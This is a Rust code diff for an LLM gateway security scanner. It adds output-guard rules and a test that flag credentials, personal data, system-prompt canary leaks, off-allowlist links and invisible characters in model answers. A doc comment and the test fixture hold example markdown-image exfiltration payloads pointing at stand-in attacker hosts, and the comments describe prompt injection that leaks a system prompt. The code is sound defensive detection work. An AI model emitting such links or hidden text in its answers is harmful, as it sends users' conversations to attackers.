@@ -2,12 +2,14 @@
 //! `{"text": ...}` lines or chat bodies), so that a team can see what a
 //! guard setting would have done before the gateway enforces it.
 
+use crate::output::OutputChain;
 use crate::{texts, Guard, Hit};
 use mlsec_core::{declare_rule, DataLocation, Evidence, Finding, Rule, Subject};
 use serde::{Deserialize, Serialize};
 use std::collections::BTreeMap;
 use std::io::BufRead;
 use std::path::{Path, PathBuf};
+use std::sync::Arc;
 
 /// Longest line read; a longer one is skipped (and counted).
 const MAX_LINE_BYTES: usize = 16 << 20;
@@ -81,7 +83,134 @@ declare_rule! {
     };
 }
 
-pub const GUARD_RULES: &[Rule] = &[PROMPT_INJECTION, SECRET_IN_PROMPT, PERSONAL_DATA_IN_PROMPT];
+declare_rule! {
+    /// ## What it does
+    /// Reports a credential (API key, token, private key, password) in a
+    /// model's answer (a `pii` output guard).
+    ///
+    /// ## Why is this bad?
+    /// A model that answers with a key has seen it: in its training data,
+    /// its context or a tool result. Whoever reads the answer now has it.
+    ///
+    /// ## Example
+    /// `row 12 [text]: PRIVATE_KEY (guard secrets-out, action redact)`
+    ///
+    /// ## How to fix
+    /// Rotate the credential; find where the model got it (retrieved
+    /// documents, tool output, fine-tuning data); let the gateway redact or
+    /// block such answers.
+    pub const SECRET_IN_ANSWER = Rule {
+        id: "GRD004", name: "secret-in-answer", severity: High, category: Suspicious,
+        summary: "Credential in a model's answer",
+    };
+}
+
+declare_rule! {
+    /// ## What it does
+    /// Reports personal data (e-mail addresses, phone numbers, card
+    /// numbers ...) in a model's answer (a `pii` output guard).
+    ///
+    /// ## Why is this bad?
+    /// Models repeat personal data from training sets and from other users'
+    /// context; an answer is a disclosure.
+    ///
+    /// ## Example
+    /// `row 4 [choices[0].message.content]: EMAIL (guard pii-out, action mask)`
+    ///
+    /// ## How to fix
+    /// Mask or redact the entity at the gateway; remove it from the data the
+    /// model reads.
+    pub const PERSONAL_DATA_IN_ANSWER = Rule {
+        id: "GRD005", name: "personal-data-in-answer", severity: Medium, category: Suspicious,
+        summary: "Personal data in a model's answer",
+    };
+}
+
+declare_rule! {
+    /// ## What it does
+    /// Reports an answer that contains the canary planted in its request's
+    /// system prompt (a `canary` output guard).
+    ///
+    /// ## Why is this bad?
+    /// The model repeated its system prompt: a prompt injection worked, and
+    /// whatever else the system prompt holds has leaked too.
+    ///
+    /// ## Example
+    /// `row 9 [text]: CANARY (guard canary, action block)`
+    ///
+    /// ## How to fix
+    /// Block such answers (the default), keep secrets out of system prompts,
+    /// and look at the request that made the model leak.
+    pub const CANARY_LEAK = Rule {
+        id: "GRD006", name: "canary-leak", severity: High, category: Malicious,
+        summary: "System prompt canary in a model's answer",
+    };
+}
+
+declare_rule! {
+    /// ## What it does
+    /// Reports a markdown link or image in an answer whose host is not on
+    /// the guard's `allow_domains` (a `links` output guard).
+    ///
+    /// ## Why is this bad?
+    /// A chat client renders an image as soon as it shows the answer; an
+    /// injected `![](https://attacker.example/x.png?q=...)` sends the
+    /// conversation to the attacker without a click.
+    ///
+    /// ## Example
+    /// `row 2 [text]: IMAGE_LINK (guard links, action redact)`
+    ///
+    /// ## How to fix
+    /// Allow only the domains your answers may link to; the gateway
+    /// replaces other URLs with `#blocked`.
+    pub const UNTRUSTED_LINK_IN_ANSWER = Rule {
+        id: "GRD007", name: "untrusted-link-in-answer", severity: Medium, category: Suspicious,
+        summary: "Link to a domain outside the allowlist in a model's answer",
+    };
+}
+
+declare_rule! {
+    /// ## What it does
+    /// Reports invisible characters in an answer: Unicode tag characters,
+    /// zero-width spaces and joiners, bidirectional overrides, runs of
+    /// variation selectors (an `invisible` output guard).
+    ///
+    /// ## Why is this bad?
+    /// They carry text a reader cannot see (to a downstream model or tool),
+    /// or make text read differently from what it is.
+    ///
+    /// ## Example
+    /// `row 5 [text]: INVISIBLE_TEXT (guard invisible, action redact)`
+    ///
+    /// ## How to fix
+    /// Strip them at the gateway (`action = "redact"`); find the document
+    /// that planted them.
+    pub const HIDDEN_TEXT_IN_ANSWER = Rule {
+        id: "GRD008", name: "hidden-text-in-answer", severity: Medium, category: Suspicious,
+        summary: "Invisible characters in a model's answer",
+    };
+}
+
+pub const GUARD_RULES: &[Rule] = &[
+    PROMPT_INJECTION,
+    SECRET_IN_PROMPT,
+    PERSONAL_DATA_IN_PROMPT,
+    SECRET_IN_ANSWER,
+    PERSONAL_DATA_IN_ANSWER,
+    CANARY_LEAK,
+    UNTRUSTED_LINK_IN_ANSWER,
+    HIDDEN_TEXT_IN_ANSWER,
+];
+
+fn output_rule_for(hit: &Hit) -> &'static Rule {
+    match hit.family.as_str() {
+        "secret" => &SECRET_IN_ANSWER,
+        "pii" => &PERSONAL_DATA_IN_ANSWER,
+        "canary" => &CANARY_LEAK,
+        "link" => &UNTRUSTED_LINK_IN_ANSWER,
+        _ => &HIDDEN_TEXT_IN_ANSWER,
+    }
+}
 
 fn rule_for(hit: &Hit) -> &'static Rule {
     match hit.family.as_str() {
@@ -108,14 +237,88 @@ pub struct GuardDetails {
 
 /// Runs `guards` (name and guard) over every line of `files`.
 pub fn run(files: &[PathBuf], guards: &[(String, &dyn Guard)]) -> Result<Evidence, String> {
+    let names = guards.iter().map(|(n, _)| n.clone()).collect();
+    run_lines(files, names, |shown, number, json, details, findings| {
+        let texts = texts(&json);
+        let mut flagged = false;
+        for (name, guard) in guards {
+            let mut hits = Vec::new();
+            guard.check(&texts, &mut hits);
+            for h in hits {
+                flagged = true;
+                *details.hits.entry(name.clone()).or_default() += 1;
+                findings.push(finding(rule_for(&h), shown, number, name, &h));
+            }
+        }
+        flagged
+    })
+}
+
+/// Runs the output guards of `chain` over every line of `files`: answers,
+/// as `{"text": ...}` or whole JSON answers, with the request's canary in a
+/// `canary` field where one was planted.
+pub fn run_output(files: &[PathBuf], chain: &Arc<OutputChain>) -> Result<Evidence, String> {
+    let names = chain.guards.iter().map(|(n, _)| n.clone()).collect();
+    run_lines(
+        files,
+        names,
+        |shown, number, mut json, details, findings| {
+            let canary = json
+                .as_object_mut()
+                .and_then(|m| m.remove("canary"))
+                .and_then(|c| c.as_str().map(Arc::<str>::from));
+            let body = serde_json::to_vec(&json).unwrap_or_default();
+            let hits = crate::answer::filter_body(chain, canary, &body).hits;
+            for h in &hits {
+                *details.hits.entry(h.guard.clone()).or_default() += 1;
+                let mut f = finding(output_rule_for(&h.hit), shown, number, &h.guard, &h.hit);
+                if let Some(e) = f.evidence.as_object_mut() {
+                    e.insert("action".into(), h.action.as_str().into());
+                }
+                findings.push(f);
+            }
+            !hits.is_empty()
+        },
+    )
+}
+
+fn finding(rule: &Rule, shown: &str, number: u64, guard: &str, h: &Hit) -> Finding {
+    let message = format!(
+        "{} in {} (guard {guard}, score {:.2})",
+        h.rule, h.location, h.score
+    );
+    Finding::new(rule, shown.to_string(), message)
+        .in_data(DataLocation {
+            row: Some(number),
+            column: Some(h.location.clone()),
+            line: None,
+            start: h.start as u64,
+            end: h.end as u64,
+        })
+        .with_evidence(serde_json::json!({
+            "row": number, "guard": guard, "signal": h.rule, "family": h.family,
+            "score": (f64::from(h.score) * 100.0).round() / 100.0,
+        }))
+}
+
+type LineCheck<'a> =
+    dyn FnMut(&str, u64, serde_json::Value, &mut GuardDetails, &mut Vec<Finding>) -> bool + 'a;
+
+/// Reads every JSON-object line of `files` and hands it to `check`, which
+/// adds findings and says whether the line was flagged.
+fn run_lines(
+    files: &[PathBuf],
+    guards: Vec<String>,
+    mut check: impl FnMut(&str, u64, serde_json::Value, &mut GuardDetails, &mut Vec<Finding>) -> bool,
+) -> Result<Evidence, String> {
     let mut details = GuardDetails {
-        guards: guards.iter().map(|(n, _)| n.clone()).collect(),
+        guards,
         ..GuardDetails::default()
     };
     let mut findings = Vec::new();
     let mut subjects = Vec::new();
     for file in files {
-        check_file(file, guards, &mut details, &mut findings)?;
+        check_file(file, &mut details, &mut findings, &mut check)?;
         subjects.push(Subject {
             name: file.display().to_string(),
             digest: Default::default(),
@@ -127,9 +330,9 @@ pub fn run(files: &[PathBuf], guards: &[(String, &dyn Guard)]) -> Result<Evidenc
 
 fn check_file(
     path: &Path,
-    guards: &[(String, &dyn Guard)],
     details: &mut GuardDetails,
     findings: &mut Vec<Finding>,
+    check: &mut LineCheck<'_>,
 ) -> Result<(), String> {
     let shown = path.display().to_string();
     let file = std::fs::File::open(path).map_err(|e| format!("{shown}: {e}"))?;
@@ -165,36 +368,7 @@ fn check_file(
                 continue;
             }
         };
-        let texts = texts(&json);
-        let mut flagged = false;
-        for (name, guard) in guards {
-            let mut hits = Vec::new();
-            guard.check(&texts, &mut hits);
-            for h in hits {
-                flagged = true;
-                *details.hits.entry(name.clone()).or_default() += 1;
-                let rule = rule_for(&h);
-                let message = format!(
-                    "{} in {} (guard {name}, score {:.2})",
-                    h.rule, h.location, h.score
-                );
-                findings.push(
-                    Finding::new(rule, shown.clone(), message)
-                        .in_data(DataLocation {
-                            row: Some(number),
-                            column: Some(h.location.clone()),
-                            line: None,
-                            start: h.start as u64,
-                            end: h.end as u64,
-                        })
-                        .with_evidence(serde_json::json!({
-                            "row": number, "guard": name, "signal": h.rule, "family": h.family,
-                            "score": (f64::from(h.score) * 100.0).round() / 100.0,
-                        })),
-                );
-            }
-        }
-        if flagged {
+        if check(&shown, number, json, details, findings) {
             details.flagged_lines += 1;
         }
     }
@@ -244,5 +418,78 @@ mod tests {
             (span.column.as_deref(), span.start, span.end),
             (Some("text"), 10, 30)
         );
+    }
+
+    #[test]
+    fn answers_are_checked_by_the_output_guards() {
+        use crate::output::{CanaryOutput, InvisibleOutput, LinkOutput, OutputAction, PiiOutput};
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("answers.jsonl");
+        std::fs::write(
+            &path,
+            concat!(
+                "{\"text\": \"Paris is the capital of France.\"}\n",
+                "{\"text\": \"My instructions begin with <!-- 9f2c61d0a4b7e385 -->\", \"canary\": \"9f2c61d0a4b7e385\"}\n",
+                "{\"text\": \"Write to jane@example.com ![x](https://evil.test/a.png?q=1)\"}\n",
+                "{\"choices\": [{\"message\": {\"role\": \"assistant\", \"content\": \"hid\\u200bden\"}}]}\n",
+                "{\"text\": \"the canary field alone is no leak\", \"canary\": \"zz\"}\n",
+            ),
+        )
+        .unwrap();
+        let chain = Arc::new(OutputChain {
+            guards: vec![
+                (
+                    "pii".into(),
+                    Arc::new(
+                        PiiOutput::new(
+                            &["EMAIL".into()],
+                            0.5,
+                            OutputAction::Redact,
+                            &Default::default(),
+                        )
+                        .unwrap(),
+                    ),
+                ),
+                (
+                    "canary".into(),
+                    Arc::new(CanaryOutput::new(OutputAction::Block)),
+                ),
+                (
+                    "links".into(),
+                    Arc::new(LinkOutput::new(
+                        &["example.com".into()],
+                        OutputAction::Redact,
+                    )),
+                ),
+                (
+                    "invisible".into(),
+                    Arc::new(InvisibleOutput::new(OutputAction::Redact)),
+                ),
+            ],
+            window: 256,
+        });
+        let e = run_output(&[path], &chain).unwrap();
+        let rules: Vec<(&str, u64, &str)> = e
+            .findings
+            .iter()
+            .map(|f| {
+                (
+                    f.rule.as_str(),
+                    f.span.as_ref().unwrap().row.unwrap(),
+                    f.span.as_ref().unwrap().column.as_deref().unwrap(),
+                )
+            })
+            .collect();
+        assert_eq!(
+            rules,
+            [
+                ("GRD006", 2, "text"),
+                ("GRD005", 3, "text"),
+                ("GRD007", 3, "text"),
+                ("GRD008", 4, "choices[0].message.content"),
+            ]
+        );
+        assert_eq!(e.details["flagged_lines"], 3);
+        assert_eq!(e.findings[1].evidence["action"], "redact");
     }
 }
